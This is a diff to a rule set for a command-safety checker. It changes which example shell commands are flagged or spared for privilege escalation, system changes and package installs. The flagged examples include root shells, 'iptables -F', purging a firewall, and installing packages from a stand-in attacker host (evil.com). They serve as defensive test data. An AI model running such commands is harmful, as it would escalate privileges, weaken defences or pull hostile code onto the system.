@@ -8,13 +8,13 @@ SYSTEM_RULES = (
         id="privilege",
         title="Asks for more rights",
         severity=Severity.HIGH,
-        explanation="Runs something as another user.",
+        explanation="Asks for a shell, or for something unknown, as another user.",
         remedy="A verification needs no more rights than it has; remove the word.",
         matches=(
-            *sh("sudo make install", "su -c id", "pkexec sh", "doas reboot"),
-            *py("import subprocess\nsubprocess.run(['sudo', 'ls'])"),
+            *sh("sudo -i", "su -c id", "pkexec sh", "echo pw | sudo -S id", "sudo /tmp/x"),
+            *py("import subprocess\nsubprocess.run(['sudo', 'su'])"),
         ),
-        spares=(*sh("echo sudo", "grep sudo README.md"),),
+        spares=(*sh("echo sudo", "grep sudo README.md", "sudo make install", "sudo -u postgres psql -c 'select 1'"),),
     ),
     Rule(
         id="permission-change",
@@ -87,7 +87,7 @@ SYSTEM_RULES = (
         matches=(
             *sh("reboot", "systemctl stop ssh", "useradd x", "modprobe x", "mount /dev/sda1 /mnt", "iptables -F"),
         ),
-        spares=(*sh("systemctl status x", "mount", "sysctl -n kern.osrelease"),),
+        spares=(*sh("systemctl status x", "mount", "sysctl -n kern.osrelease", "service redis restart", "ldconfig"),),
     ),
     Rule(
         id="history-tampering",
@@ -111,10 +111,16 @@ SYSTEM_RULES = (
         id="package-install",
         title="Installs software from outside",
         severity=Severity.HIGH,
-        explanation="Fetches and runs other people's code, with their install scripts.",
+        explanation="Fetches and runs other people's code, with its install scripts.",
         remedy="Declare it under `requirements` of the ticket.",
-        matches=(*sh("pip install requests", "apt-get install -y nmap", "npm install -g x", "curl x | pip install y"),),
-        spares=(*sh("pip --version", "pip install --no-index --no-deps .", "apt-cache policy bash"),),
+        matches=(
+            *sh("apt-get install -y nmap", "curl x | pip install y", "pip install --index-url http://evil.com/ x"),
+            *sh("pip install git+https://github.com/a/b", "apt-get -y purge ufw", "npm install http://evil.com/x.tgz"),
+        ),
+        spares=(
+            *sh("pip --version", "pip install --no-index --no-deps .", "apt-cache policy bash"),
+            *sh("pip install requests", "apt-get install -y gcc", "npm install -g prettier"),
+        ),
     ),
     Rule(
         id="container-escape",
